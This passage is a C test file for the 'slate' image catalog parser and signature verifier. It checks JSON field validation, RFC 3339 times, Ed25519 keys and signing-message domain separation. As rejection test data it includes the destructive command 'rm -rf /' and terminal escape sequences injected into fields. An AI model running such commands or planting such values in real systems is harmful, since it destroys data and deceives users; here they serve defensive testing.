/* SPDX-License-Identifier: GPL-2.0-or-later */

/*
 * image/catalog and image/sign: the catalog format field by field, every refusal of the verifier
 * (each case would pass if its check were removed, and fails), domain separation, key files, a
 * signature made by OpenSSL instead of libsodium, the rollback state and key rotation, and the
 * artifact size/SHA-256 check.
 */

#include <fcntl.h>
#include <inttypes.h>
#include <setjmp.h>
#include <sodium.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "image/catalog.h"
#include "image/sign.h"
#include "util/buf.h"
#include "util/error.h"
#include "util/fs.h"

#define HEX64(c) c c c c c c c c c c c c c c c c c c c c c c c c c c c c c c c c
#define HEX_A HEX64("aa")
#define HEX_B HEX64("bb")
#define HEX_C HEX64("cc")
#define HEX_D HEX64("dd")
#define A10 "AAAAAAAAAA"
#define B64_ZERO_SIG A10 A10 A10 A10 A10 A10 A10 A10 "AAAAAA==" /* 64 zero bytes */
#define B64_ZERO_KEY A10 A10 A10 A10 "AAA=" /* 32 zero bytes: a small-order point */

/* A valid catalog: a kernel-boot image with two postinstall steps and a firmware image. */
#define STEP_1                                                                                     \
	"{\"uuid\":\"3f1c2a7e-8b4d-4c1e-9f2a-0d5e6b7c8a91\",\"seq\":1,\"description\":"            \
	"\"hostname\","                                                                            \
	"\"command\":\"echo slate >/etc/hostname\"}"
#define STEP_2                                                                                     \
	"{\"uuid\":\"a4d0e3b2-17c9-4f0e-8b6a-5c2d1e0f9a38\",\"seq\":2,\"description\":\"agent\","  \
	"\"command\":\"systemctl enable slate-guest\"}"
#define STEPS ",\"postinstall\":[" STEP_1 "," STEP_2 "]"
#define IMAGE_DEBIAN                                                                               \
	"{\"id\":\"debian-13\",\"version\":2,\"description\":\"Debian 13\","                       \
	"\"disk\":{\"url\":\"https://example.org/d.img.zst\",\"sha256\":\"" HEX_A "\","            \
	"\"size\":1000,\"uncompressedSize\":4000,\"compression\":\"zstd\",\"format\":\"raw\"},"    \
	"\"boot\":{\"type\":\"kernel\","                                                           \
	"\"kernel\":{\"url\":\"https://example.org/vmlinuz\",\"sha256\":\"" HEX_B                  \
	"\",\"size\":100},"                                                                        \
	"\"initrd\":{\"url\":\"https://example.org/initrd\",\"sha256\":\"" HEX_C                   \
	"\",\"size\":200},"                                                                        \
	"\"cmdline\":\"console=ttyS0\"}" STEPS "}"
#define ALPINE_DISK                                                                                \
	"\"disk\":{\"url\":\"https://example.org/a.qcow2\",\"sha256\":\"" HEX_D "\",\"size\":500," \
	"\"uncompressedSize\":500,\"compression\":\"none\",\"format\":\"qcow2\"}"
#define IMAGE_ALPINE                                                                               \
	"{\"id\":\"alpine\",\"version\":1,\"description\":\"Alpine\"," ALPINE_DISK                 \
	",\"boot\":{\"type\":\"firmware\"}}"
#define IMAGES IMAGE_DEBIAN "," IMAGE_ALPINE

static const char base_catalog[] =
        "{\"format\":\"slate-catalog\",\"formatVersion\":1,\"channel\":\"stable\",\"version\":3,"
        "\"signedAt\":\"2026-01-01T00:00:00Z\",\"expires\":\"2027-01-01T00:00:00Z\","
        "\"images\":[" IMAGES "]}";

#define NOW "2026-06-01T00:00:00Z"

/* Test keys from fixed seeds: 0 and 1 are trusted (1 only through rotation), 2 never. */
struct test_key {
	uint8_t sk[crypto_sign_SECRETKEYBYTES];
	struct sign_public_key pub;
};
static struct test_key keys[3];
static char tmp_path[] = "/tmp/test-catalog.XXXXXX";
static int tmp_fd = -1;

static int64_t T(const char *s)
{
	int64_t t = 0;
	assert_int_equal(catalog_time_parse(s, &t), 0);
	return t;
}

/* Returns a new copy of s with its only occurrence of from replaced by to. */
static char *replace(const char *s, const char *from, const char *to)
{
	const char *at = strstr(s, from);
	size_t n = strlen(s), fl = strlen(from), tl = strlen(to);
	char *d;

	if (!at || strstr(at + 1, from))
		fail_msg("\"%s\" does not occur exactly once", from);
	d = malloc(n - fl + tl + 1);
	assert_non_null(d);
	memcpy(d, s, (size_t)(at - s));
	memcpy(d + (at - s), to, tl);
	memcpy(d + (at - s) + tl, at + fl, n - (size_t)(at - s) - fl + 1);
	return d;
}

/* Signs data as an independent signer would: libsodium directly, over the message this test
 * builds itself (or over the bare data with raw). Returns the signature file's text. */
static char *sign_with(const struct test_key *k, const char *channel, const void *data, size_t len,
                       bool raw)
{
	static const char domain[] = "slate-catalog-v1";
	uint8_t sig[SIGN_SIGNATURE_BYTES];
	size_t plen = raw ? 0 : sizeof(domain) + strlen("channel=") + strlen(channel) + 1;
	uint8_t *m = malloc(plen + len + 1);
	char *text = NULL;

	assert_non_null(m);
	if (!raw) {
		memcpy(m, domain, sizeof(domain));
		memcpy(m + sizeof(domain), "channel=", 8);
		memcpy(m + sizeof(domain) + 8, channel, strlen(channel) + 1);
	}
	memcpy(m + plen, data, len);
	assert_int_equal(crypto_sign_detached(sig, NULL, m, plen + len, k->sk), 0);
	free(m);
	assert_int_equal(sign_signature_format(k->pub.id, sig, &text), 0);
	return text;
}

static struct catalog_trust *trust_of(size_t n, ...)
{
	struct catalog_trust *t = NULL;
	va_list ap;

	assert_int_equal(catalog_trust_new(&t), 0);
	va_start(ap, n);
	for (size_t i = 0; i < n; i++)
		assert_int_equal(catalog_trust_add(t, &keys[va_arg(ap, int)].pub), 0);
	va_end(ap);
	return t;
}

static void write_file(int dirfd, const char *name, const void *data, size_t len, mode_t mode)
{
	assert_int_equal(fs_write_atomic_at(dirfd, name, data, len, mode), 0);
}

static int setup(void **state)
{
	assert_int_equal(sodium_init() >= 0, 1);
	for (size_t i = 0; i < ELEMENTSOF(keys); i++) {
		uint8_t seed[32], pk[32];

		memset(seed, (int)(i + 1), sizeof(seed));
		crypto_sign_seed_keypair(pk, keys[i].sk, seed);
		if (sign_public_key_from_raw(pk, "test", &keys[i].pub) < 0)
			return -1;
	}
	if (!mkdtemp(tmp_path))
		return -1;
	tmp_fd = open(tmp_path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	umask(022);
	return tmp_fd < 0 ? -1 : 0;
}

static int teardown(void **state)
{
	char cmd[64];

	(void)safe_close(tmp_fd);
	(void)snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmp_path);
	return system(cmd) == 0 ? 0 : -1;
}

/* ---- times ------------------------------------------------------------------------------ */

static void test_time(void **state)
{
	static const struct {
		const char *s;
		int64_t t; /* -1: refused */
	} cases[] = {
	        {"1970-01-01T00:00:00Z", 0},
	        {"2026-12-31T00:00:00Z", 1798675200},
	        {"2000-02-29T12:34:56Z", 951827696},
	        {"2038-01-19T03:14:08Z", INT64_C(2147483648)},
	        {"9999-12-31T23:59:59Z", INT64_C(253402300799)},
	        {"2001-02-29T00:00:00Z", -1}, /* not a leap year */
	        {"1900-02-29T00:00:00Z", -1},
	        {"1969-12-31T23:59:59Z", -1},
	        {"2026-13-01T00:00:00Z", -1},
	        {"2026-00-01T00:00:00Z", -1},
	        {"2026-04-31T00:00:00Z", -1},
	        {"2026-01-01T24:00:00Z", -1},
	        {"2026-01-01T23:60:00Z", -1},
	        {"2026-12-31T23:59:60Z", -1}, /* leap seconds are not taken */
	        {"2026-01-01t00:00:00Z", -1},
	        {"2026-01-01T00:00:00z", -1},
	        {"2026-01-01 00:00:00Z", -1},
	        {"2026-01-01T00:00:00+00:00", -1},
	        {"2026-01-01T00:00:00.5Z", -1},
	        {"2026-01-01T00:00:00", -1},
	        {"2026-1-01T00:00:00Z", -1},
	        {"+2026-01-01T00:00:00Z", -1},
	        {"2026-01-01T00:00:0Z ", -1},
	        {"", -1},
	};

	for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
		int64_t t = 42;
		char back[32];
		int r = catalog_time_parse(cases[i].s, &t);

		if (cases[i].t < 0) {
			if (r != -EINVAL || t != 42)
				fail_msg("%s: accepted", cases[i].s);
			continue;
		}
		if (r != 0 || t != cases[i].t)
			fail_msg("%s: got %d, %" PRId64, cases[i].s, r, t);
		assert_int_equal(catalog_time_format(t, back, sizeof(back)), 0);
		assert_string_equal(back, cases[i].s);
	}
	assert_int_equal(catalog_time_format(-1, (char[32]){}, 32), -ERANGE);
	assert_int_equal(catalog_time_format(INT64_C(253402300800), (char[32]){}, 32), -ERANGE);
	assert_int_equal(catalog_time_format(0, (char[20]){}, 20), -ENOBUFS);
}

/* ---- the format ------------------------------------------------------------------------- */

static void test_parse_valid(void **state)
{
	_cleanup_catalog_ struct catalog *c = NULL;
	struct slate_error err = {};
	const struct catalog_image *img;

	assert_int_equal(
	        catalog_parse((const uint8_t *)base_catalog, strlen(base_catalog), &c, &err), 0);
	assert_string_equal(c->channel, "stable");
	assert_int_equal(c->version, 3);
	assert_int_equal(c->signed_at, T("2026-01-01T00:00:00Z"));
	assert_int_equal(c->expires, T("2027-01-01T00:00:00Z"));
	assert_int_equal(c->n_images, 2);
	assert_int_equal(c->n_keys, 0);
	assert_int_equal(c->len, strlen(base_catalog));
	assert_memory_equal(c->bytes, base_catalog, c->len);
	assert_null(c->sig);
	assert_string_equal(c->key_id, "");

	img = catalog_find_image(c, "debian-13");
	assert_non_null(img);
	assert_int_equal(img->version, 2);
	assert_string_equal(img->description, "Debian 13");
	assert_string_equal(img->disk.url, "https://example.org/d.img.zst");
	assert_string_equal(img->disk.sha256_hex, HEX_A);
	assert_int_equal(img->disk.sha256[0], 0xaa);
	assert_int_equal(img->disk.sha256[31], 0xaa);
	assert_int_equal(img->disk.size, 1000);
	assert_int_equal(img->uncompressed_size, 4000);
	assert_int_equal(img->compression, CATALOG_COMPRESSION_ZSTD);
	assert_int_equal(img->format, CATALOG_DISK_RAW);
	assert_int_equal(img->boot, CATALOG_BOOT_KERNEL);
	assert_string_equal(img->kernel.url, "https://example.org/vmlinuz");
	assert_int_equal(img->kernel.size, 100);
	assert_int_equal(img->initrd.sha256[0], 0xcc);
	assert_string_equal(img->cmdline, "console=ttyS0");
	assert_int_equal(img->n_steps, 2);
	assert_string_equal(img->steps[0].uuid, "3f1c2a7e-8b4d-4c1e-9f2a-0d5e6b7c8a91");
	assert_int_equal(img->steps[0].seq, 1);
	assert_string_equal(img->steps[1].command, "systemctl enable slate-guest");

	img = catalog_find_image(c, "alpine");
	assert_non_null(img);
	assert_int_equal(img->boot, CATALOG_BOOT_FIRMWARE);
	assert_null(img->cmdline);
	assert_int_equal(img->format, CATALOG_DISK_QCOW2);
	assert_int_equal(img->compression, CATALOG_COMPRESSION_NONE);
	assert_int_equal(img->n_steps, 0);
	assert_null(catalog_find_image(c, "debian"));
}

static const struct parse_case {
	const char *name;
	const char *from, *to; /* one change to base_catalog */
	int expect;
	const char *message; /* a substring of the error message */
} parse_cases[] = {
        /* Accepted variations. */
        {"no images", IMAGES, "", 0, NULL},
        {"one image", "," IMAGE_ALPINE, "", 0, NULL},
        {"multi-line command", "\"command\":\"systemctl enable slate-guest\"",
         "\"command\":\"set -e\\n\\tsystemctl enable slate-guest\\n\"", 0, NULL},
        {"escaped quote and colon in a string", "\"description\":\"Alpine\"",
         "\"description\":\"a \\\":b\\\" \\\\\"", 0, NULL},
        {"non-ASCII description", "\"description\":\"Alpine\"",
         "\"description\":\"Alpine \\u00e9 \xe2\x82\xac\"", 0, NULL},
        {"empty cmdline", "\"cmdline\":\"console=ttyS0\"", "\"cmdline\":\"\"", 0, NULL},
        {"no postinstall", STEPS, "", 0, NULL},
        {"empty postinstall", STEPS, ",\"postinstall\":[]", 0, NULL},
        {"seq from 0", "\"seq\":1,", "\"seq\":0,", 0, NULL},
        {"empty keys", "\"images\":[", "\"keys\":[],\"images\":[", 0, NULL},

        /* The top level. */
        {"other format", "\"format\":\"slate-catalog\"", "\"format\":\"slate-catalogue\"",
         SLATE_ERR_INVALID_FORMAT, "format: \"slate-catalogue\" is not \"slate-catalog\""},
        {"no format", "\"format\":\"slate-catalog\",", "", SLATE_ERR_INVALID_FORMAT,
         "format: missing"},
        {"format version 2", "\"formatVersion\":1", "\"formatVersion\":2",
         SLATE_ERR_PROTOCOL_VERSION, "formatVersion 2 is not supported"},
        {"format version as string", "\"formatVersion\":1", "\"formatVersion\":\"1\"",
         SLATE_ERR_INVALID_FORMAT, "formatVersion: not an integer"},
        {"unknown member", "\"images\":[", "\"comment\":\"x\",\"images\":[",
         SLATE_ERR_INVALID_FORMAT, "unknown member \"comment\""},
        {"uppercase channel", "\"channel\":\"stable\"", "\"channel\":\"Stable\"",
         SLATE_ERR_INVALID_FORMAT, "channel: \"Stable\" does not match"},
        {"channel with ..", "\"channel\":\"stable\"", "\"channel\":\"a..b\"",
         SLATE_ERR_INVALID_FORMAT, "channel: \"a..b\""},
        {"no channel", "\"channel\":\"stable\",", "", SLATE_ERR_INVALID_FORMAT, "channel: missing"},
        {"version 0", "\"version\":3", "\"version\":0", SLATE_ERR_INVALID_FORMAT,
         "version: 0 is below the minimum 1"},
        {"negative version", "\"version\":3", "\"version\":-3", SLATE_ERR_INVALID_FORMAT,
         "version: -3 is below"},
        {"version as string", "\"version\":3", "\"version\":\"3\"", SLATE_ERR_INVALID_FORMAT,
         "version: not an integer"},
        {"version as double", "\"version\":3", "\"version\":3.0", SLATE_ERR_INVALID_FORMAT,
         "version: not an integer"},
        {"version above int64", "\"version\":3", "\"version\":9223372036854775808",
         SLATE_ERR_INVALID_FORMAT, "version: out of range"},
        {"signedAt with offset", "\"signedAt\":\"2026-01-01T00:00:00Z\"",
         "\"signedAt\":\"2026-01-01T00:00:00+00:00\"", SLATE_ERR_INVALID_FORMAT,
         "signedAt: \"2026-01-01T00:00:00+00:00\" is not an RFC 3339 UTC time"},
        {"empty signedAt", "\"signedAt\":\"2026-01-01T00:00:00Z\"", "\"signedAt\":\"\"",
         SLATE_ERR_INVALID_FORMAT, "signedAt: empty, or not printable ASCII"},
        {"signedAt as number", "\"signedAt\":\"2026-01-01T00:00:00Z\"", "\"signedAt\":1767225600",
         SLATE_ERR_INVALID_FORMAT, "signedAt: not a string"},
        {"expires on Feb 30", "\"expires\":\"2027-01-01T00:00:00Z\"",
         "\"expires\":\"2027-02-30T00:00:00Z\"", SLATE_ERR_INVALID_FORMAT,
         "expires: \"2027-02-30T00:00:00Z\" is not"},
        {"expires before signedAt", "\"expires\":\"2027-01-01T00:00:00Z\"",
         "\"expires\":\"2025-01-01T00:00:00Z\"", SLATE_ERR_INVALID_FORMAT,
         "expires: not after signedAt"},
        {"no expires", "\"expires\":\"2027-01-01T00:00:00Z\",", "", SLATE_ERR_INVALID_FORMAT,
         "expires: missing"},
        {"images not an array", "[" IMAGES "]", "{}", SLATE_ERR_INVALID_FORMAT,
         "images: not an array"},
        {"no images member", ",\"images\":[" IMAGES "]", "", SLATE_ERR_INVALID_FORMAT,
         "images: missing"},
        {"image not an object", "\"images\":[", "\"images\":[1,", SLATE_ERR_INVALID_FORMAT,
         "images[0]: not an object"},
        {"duplicate member", "\"version\":3,", "\"version\":3,\"version\":9,",
         SLATE_ERR_INVALID_FORMAT, "an object has a member twice"},
        {"duplicate nested member", "\"size\":1000,", "\"size\":1000,\"size\":1000,",
         SLATE_ERR_INVALID_FORMAT, "twice"},
        {"trailing garbage", "\"boot\":{\"type\":\"firmware\"}}]}",
         "\"boot\":{\"type\":\"firmware\"}}]}x", SLATE_ERR_INVALID_FORMAT, "not strict JSON"},
        {"NUL escape", "\"description\":\"Alpine\"", "\"description\":\"Alp\\u0000ine\"",
         SLATE_ERR_INVALID_FORMAT, "not strict JSON"},

        /* Images. */
        {"unknown image member", "\"description\":\"Debian 13\",",
         "\"description\":\"Debian 13\",\"size\":1,", SLATE_ERR_INVALID_FORMAT,
         "images[0]: unknown member \"size\""},
        {"uppercase id", "\"id\":\"debian-13\"", "\"id\":\"Debian-13\"", SLATE_ERR_INVALID_FORMAT,
         "images[0].id: \"Debian-13\" does not match"},
        {"path in id", "\"id\":\"debian-13\"", "\"id\":\"../etc\"", SLATE_ERR_INVALID_FORMAT,
         "images[0].id"},
        {"dot-dot in id", "\"id\":\"debian-13\"", "\"id\":\"a..b\"", SLATE_ERR_INVALID_FORMAT,
         "images[0].id"},
        {"id of 65", "\"id\":\"debian-13\"",
         "\"id\":\"a1234567890123456789012345678901234567890123456789012345678901234\"",
         SLATE_ERR_INVALID_FORMAT, "images[0].id: longer than 64 bytes"},
        {"duplicate id", "\"id\":\"alpine\"", "\"id\":\"debian-13\"", SLATE_ERR_INVALID_FORMAT,
         "images[1].id: \"debian-13\" is also images[0]"},
        {"image version 0", "\"version\":1,\"description\":\"Alpine\"",
         "\"version\":0,\"description\":\"Alpine\"", SLATE_ERR_INVALID_FORMAT,
         "images[1].version: 0 is below"},
        {"no description", "\"description\":\"Alpine\",", "", SLATE_ERR_INVALID_FORMAT,
         "images[1].description: missing"},
        {"escape sequence in description", "\"description\":\"Alpine\"",
         "\"description\":\"\\u001b[2J\"", SLATE_ERR_INVALID_FORMAT,
         "images[1].description: contains control characters"},
        {"C1 control in description", "\"description\":\"Alpine\"",
         "\"description\":\"a\\u009b2J\"", SLATE_ERR_INVALID_FORMAT,
         "images[1].description: contains control characters"},
        {"newline in description", "\"description\":\"Alpine\"", "\"description\":\"a\\nb\"",
         SLATE_ERR_INVALID_FORMAT, "contains control characters"},

        /* Disks and artifacts. */
        {"unknown disk member", "\"format\":\"raw\"", "\"format\":\"raw\",\"signed\":true",
         SLATE_ERR_INVALID_FORMAT, "images[0].disk: unknown member \"signed\""},
        {"no disk", ALPINE_DISK ",", "", SLATE_ERR_INVALID_FORMAT, "images[1].disk: missing"},
        {"disk not an object", ALPINE_DISK, "\"disk\":\"a.qcow2\"", SLATE_ERR_INVALID_FORMAT,
         "images[1].disk: not an object"},
        {"uppercase sha256", "\"sha256\":\"" HEX_A "\"", "\"sha256\":\"" HEX64("AA") "\"",
         SLATE_ERR_INVALID_FORMAT, "images[0].disk.sha256: not 64 lowercase hexadecimal digits"},
        {"short sha256", "\"sha256\":\"" HEX_A "\"", "\"sha256\":\"" HEX64("a") "\"",
         SLATE_ERR_INVALID_FORMAT, "images[0].disk.sha256: not 64"},
        {"non-hex sha256", "\"sha256\":\"" HEX_D "\"", "\"sha256\":\"" HEX64("dg") "\"",
         SLATE_ERR_INVALID_FORMAT, "images[1].disk.sha256: not 64"},
        {"long sha256", "\"sha256\":\"" HEX_D "\"", "\"sha256\":\"" HEX_D "00\"",
         SLATE_ERR_INVALID_FORMAT, "images[1].disk.sha256: longer than 64 bytes"},
        {"size 0", "\"size\":1000,", "\"size\":0,", SLATE_ERR_INVALID_FORMAT,
         "images[0].disk.size: 0 is below the minimum 1"},
        {"negative size", "\"size\":1000,", "\"size\":-1000,", SLATE_ERR_INVALID_FORMAT,
         "images[0].disk.size"},
        {"size as double", "\"size\":1000,", "\"size\":1e3,", SLATE_ERR_INVALID_FORMAT,
         "images[0].disk.size: not an integer"},
        {"no size", "\"size\":1000,", "", SLATE_ERR_INVALID_FORMAT, "images[0].disk.size: missing"},
        {"uncompressed size differs without compression", "\"uncompressedSize\":500",
         "\"uncompressedSize\":501", SLATE_ERR_INVALID_FORMAT,
         "images[1].disk: uncompressedSize must equal size"},
        {"unknown compression", "\"compression\":\"zstd\"", "\"compression\":\"lz4\"",
         SLATE_ERR_INVALID_FORMAT, "images[0].disk.compression: unknown value \"lz4\""},
        {"unknown disk format", "\"format\":\"qcow2\"", "\"format\":\"vmdk\"",
         SLATE_ERR_INVALID_FORMAT, "images[1].disk.format: unknown value \"vmdk\""},
        {"url with a space", "\"url\":\"https://example.org/d.img.zst\"",
         "\"url\":\"https://example.org/d img\"", SLATE_ERR_INVALID_FORMAT,
         "images[0].disk.url: empty, or not printable ASCII without spaces"},
        {"empty url", "\"url\":\"https://example.org/d.img.zst\"", "\"url\":\"\"",
         SLATE_ERR_INVALID_FORMAT,
         "images[0].disk.url: empty, or not printable ASCII without spaces"},

        /* Boot. */
        {"unknown boot type", "\"type\":\"firmware\"", "\"type\":\"bios\"",
         SLATE_ERR_INVALID_FORMAT, "images[1].boot.type: unknown value \"bios\""},
        {"firmware with a kernel", "\"type\":\"firmware\"",
         "\"type\":\"firmware\",\"cmdline\":\"x\"", SLATE_ERR_INVALID_FORMAT,
         "images[1].boot: unknown member \"cmdline\""},
        {"kernel without initrd",
         ",\"initrd\":{\"url\":\"https://example.org/initrd\",\"sha256\":\"" HEX_C
         "\",\"size\":200}",
         "", SLATE_ERR_INVALID_FORMAT, "images[0].boot.initrd: missing"},
        {"kernel without cmdline", ",\"cmdline\":\"console=ttyS0\"", "", SLATE_ERR_INVALID_FORMAT,
         "images[0].boot.cmdline: missing"},
        {"unknown kernel member", "\"sha256\":\"" HEX_B "\",\"size\":100",
         "\"sha256\":\"" HEX_B "\",\"size\":100,\"gpg\":1", SLATE_ERR_INVALID_FORMAT,
         "images[0].boot.kernel: unknown member \"gpg\""},
        {"kernel size 0", "\"sha256\":\"" HEX_B "\",\"size\":100",
         "\"sha256\":\"" HEX_B "\",\"size\":0", SLATE_ERR_INVALID_FORMAT,
         "images[0].boot.kernel.size: 0 is below"},
        {"control character in cmdline", "\"cmdline\":\"console=ttyS0\"",
         "\"cmdline\":\"console=ttyS0\\t\"", SLATE_ERR_INVALID_FORMAT,
         "images[0].boot.cmdline: contains characters other than printable ASCII"},

        /* Postinstall. */
        {"postinstall not an array", STEPS, ",\"postinstall\":{}", SLATE_ERR_INVALID_FORMAT,
         "images[0].postinstall: not an array"},
        {"step not an object", "\"postinstall\":[", "\"postinstall\":[\"rm -rf /\",",
         SLATE_ERR_INVALID_FORMAT, "images[0].postinstall[0]: not an object"},
        {"unknown step member", "\"seq\":2,", "\"seq\":2,\"user\":\"root\",",
         SLATE_ERR_INVALID_FORMAT, "images[0].postinstall[1]: unknown member \"user\""},
        {"uppercase uuid", "3f1c2a7e-8b4d-4c1e-9f2a-0d5e6b7c8a91",
         "3F1C2A7E-8B4D-4C1E-9F2A-0D5E6B7C8A91", SLATE_ERR_INVALID_FORMAT,
         "images[0].postinstall[0].uuid: \"3F1C2A7E-8B4D-4C1E-9F2A-0D5E6B7C8A91\" is not"},
        {"uuid without dashes", "3f1c2a7e-8b4d-4c1e-9f2a-0d5e6b7c8a91",
         "3f1c2a7e8b4d4c1e9f2a0d5e6b7c8a91", SLATE_ERR_INVALID_FORMAT, "postinstall[0].uuid"},
        {"uuid of another variant", "3f1c2a7e-8b4d-4c1e-9f2a-0d5e6b7c8a91",
         "3f1c2a7e-8b4d-4c1e-cf2a-0d5e6b7c8a91", SLATE_ERR_INVALID_FORMAT, "postinstall[0].uuid"},
        {"nil uuid", "3f1c2a7e-8b4d-4c1e-9f2a-0d5e6b7c8a91", "00000000-0000-0000-0000-000000000000",
         SLATE_ERR_INVALID_FORMAT, "postinstall[0].uuid"},
        {"duplicate uuid", "a4d0e3b2-17c9-4f0e-8b6a-5c2d1e0f9a38",
         "3f1c2a7e-8b4d-4c1e-9f2a-0d5e6b7c8a91", SLATE_ERR_INVALID_FORMAT,
         "postinstall[1].uuid: 3f1c2a7e-8b4d-4c1e-9f2a-0d5e6b7c8a91 is used by step 0 too"},
        {"seq going down", "\"seq\":2,", "\"seq\":0,", SLATE_ERR_INVALID_FORMAT,
         "images[0].postinstall[1].seq: 0 is not above the previous step's 1"},
        {"seq repeated", "\"seq\":2,", "\"seq\":1,", SLATE_ERR_INVALID_FORMAT,
         "postinstall[1].seq: 1 is not above"},
        {"negative seq", "\"seq\":1,", "\"seq\":-1,", SLATE_ERR_INVALID_FORMAT,
         "postinstall[0].seq: -1 is below the minimum 0"},
        {"no seq", "\"seq\":2,", "", SLATE_ERR_INVALID_FORMAT, "postinstall[1].seq: missing"},
        {"empty command", "\"command\":\"systemctl enable slate-guest\"", "\"command\":\"\"",
         SLATE_ERR_INVALID_FORMAT, "images[0].postinstall[1].command: empty"},
        {"no command", ",\"command\":\"systemctl enable slate-guest\"", "",
         SLATE_ERR_INVALID_FORMAT, "postinstall[1].command: missing"},
        {"escape sequence in command", "\"command\":\"systemctl enable slate-guest\"",
         "\"command\":\"echo \\u001b[2J\"", SLATE_ERR_INVALID_FORMAT,
         "postinstall[1].command: contains control characters"},

        /* Keys. */
        {"keys not an array", "\"images\":[", "\"keys\":{},\"images\":[", SLATE_ERR_INVALID_FORMAT,
         "keys: not an array"},
        {"unknown key type", "\"images\":[",
         "\"keys\":[{\"type\":\"rsa\",\"key\":\"" B64_ZERO_KEY "\"}],\"images\":[",
         SLATE_ERR_INVALID_FORMAT, "keys[0].type: unknown key type \"rsa\""},
        {"small-order key", "\"images\":[",
         "\"keys\":[{\"type\":\"ed25519\",\"key\":\"" B64_ZERO_KEY "\"}],\"images\":[",
         SLATE_ERR_INVALID_FORMAT, "keys[0].key: not a valid Ed25519 public key"},
        {"short key", "\"images\":[",
         "\"keys\":[{\"type\":\"ed25519\",\"key\":\"AAAA\"}],\"images\":[",
         SLATE_ERR_INVALID_FORMAT, "keys[0].key: not 32 bytes of base64"},
        {"unknown key member", "\"images\":[",
         "\"keys\":[{\"type\":\"ed25519\",\"key\":\"AAAA\",\"expires\":1}],\"images\":[",
         SLATE_ERR_INVALID_FORMAT, "keys[0]: unknown member \"expires\""},
};

static void test_parse_table(void **state)
{
	for (size_t i = 0; i < ELEMENTSOF(parse_cases); i++) {
		const struct parse_case *pc = &parse_cases[i];
		_cleanup_free_ char *doc = replace(base_catalog, pc->from, pc->to);
		struct catalog *sentinel = (struct catalog *)state, *c = sentinel;
		struct slate_error err = {};
		int r = catalog_parse((const uint8_t *)doc, strlen(doc), &c, &err);

		if (r != pc->expect)
			fail_msg("%s: got %d (%s: %s), want %d", pc->name, r, slate_strerror(r),
			         err.msg, pc->expect);
		if (r == 0) {
			catalog_free(c);
			continue;
		}
		assert_ptr_equal(c, sentinel);
		assert_int_equal(err.code, r);
		if (pc->message && !strstr(err.msg, pc->message))
			fail_msg("%s: message \"%s\" lacks \"%s\"", pc->name, err.msg, pc->message);
	}
}

static void test_parse_whole(void **state)
{
	static const struct {
		const char *doc;
		int expect;
		const char *message;
	} cases[] = {
	        {"", SLATE_ERR_INVALID_FORMAT, "not strict JSON"},
	        {"[]", SLATE_ERR_INVALID_FORMAT, "not a JSON object"},
	        {"null", SLATE_ERR_INVALID_FORMAT, "not a JSON object"},
	        {"{", SLATE_ERR_INVALID_FORMAT, "not strict JSON"},
	        {"{}", SLATE_ERR_INVALID_FORMAT, "format: missing"},
	        {"{\"format\":\"slate-catalog\",\"formatVersion\":1}", SLATE_ERR_INVALID_FORMAT,
	         "channel: missing"},
	        {"{\"format\":\"slate-catalog\",\"formatVersion\":99,\"new\":1}",
	         SLATE_ERR_PROTOCOL_VERSION, "formatVersion 99"},
	};
	struct catalog *c = NULL;

	for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
		struct slate_error err = {};
		int r = catalog_parse((const uint8_t *)cases[i].doc, strlen(cases[i].doc), &c,
		                      &err);

		if (r != cases[i].expect || !strstr(err.msg, cases[i].message))
			fail_msg("%s: got %d \"%s\"", cases[i].doc, r, err.msg);
	}
	assert_null(c);
	assert_int_equal(catalog_parse(NULL, 1, &c, NULL), -EINVAL);
}

/* A catalog with a valid "keys" member. */
static char *catalog_with_keys(const char *version, size_t n, ...)
{
	char *doc, *tmp, *list = strdup("\"keys\":[");
	va_list ap;

	assert_non_null(list);
	va_start(ap, n);
	for (size_t i = 0; i < n; i++) {
		const struct test_key *k = &keys[va_arg(ap, int)];
		char b64[sodium_base64_ENCODED_LEN(32, sodium_base64_VARIANT_ORIGINAL)];

		sodium_bin2base64(b64, sizeof(b64), k->pub.key, 32, sodium_base64_VARIANT_ORIGINAL);
		assert_true(
		        asprintf(&tmp,
		                 "%s%s{\"type\":\"ed25519\",\"key\":\"%s\",\"comment\":\"k%zu\"}",
		                 list, i ? "," : "", b64, i) > 0);
		free(list);
		list = tmp;
	}
	va_end(ap);
	assert_true(asprintf(&tmp, "%s],\"images\":[", list) > 0);
	free(list);
	doc = replace(base_catalog, "\"images\":[", tmp);
	free(tmp);
	assert_true(asprintf(&tmp, "\"version\":%s,", version) > 0);
	list = replace(doc, "\"version\":3,", tmp);
	free(tmp);
	free(doc);
	return list;
}

static void test_parse_keys(void **state)
{
	_cleanup_catalog_ struct catalog *c = NULL;
	_cleanup_free_ char *doc = catalog_with_keys("3", 2, 1, 2), *dup = NULL;
	struct slate_error err = {};

	assert_int_equal(catalog_parse((const uint8_t *)doc, strlen(doc), &c, &err), 0);
	assert_int_equal(c->n_keys, 2);
	assert_memory_equal(c->keys[0].key, keys[1].pub.key, 32);
	assert_string_equal(c->keys[0].id, keys[1].pub.id);
	assert_string_equal(c->keys[1].comment, "k1");

	dup = catalog_with_keys("3", 2, 1, 1);
	catalog_free(TAKE_PTR(c));
	assert_int_equal(catalog_parse((const uint8_t *)dup, strlen(dup), &c, &err),
	                 SLATE_ERR_INVALID_FORMAT);
	assert_non_null(strstr(err.msg, "keys[1]: key"));
}

/* ---- signatures and verification -------------------------------------------------------- */

static void test_message(void **state)
{
	static const char want[] = "slate-catalog-v1\0channel=beta-2\0{}";
	_cleanup_free_ uint8_t *m = NULL;
	size_t len = 0;

	assert_int_equal(sign_message_new("beta-2", (const uint8_t *)"{}", 2, &m, &len), 0);
	assert_int_equal(len, sizeof(want) - 1);
	assert_memory_equal(m, want, len);
	assert_int_equal(sign_message_new("Beta", (const uint8_t *)"{}", 2, &m, &len), -EINVAL);
	assert_int_equal(sign_message_new("", (const uint8_t *)"{}", 2, &m, &len), -EINVAL);
	assert_int_equal(sign_message_new("a=b", (const uint8_t *)"{}", 2, &m, &len), -EINVAL);
}

enum signer { SIGNER_NONE, SIGNER_K0, SIGNER_K2, SIGNER_K0_RAW };
enum last {
	LAST_NONE,
	LAST_OLDER,         /* version 2 */
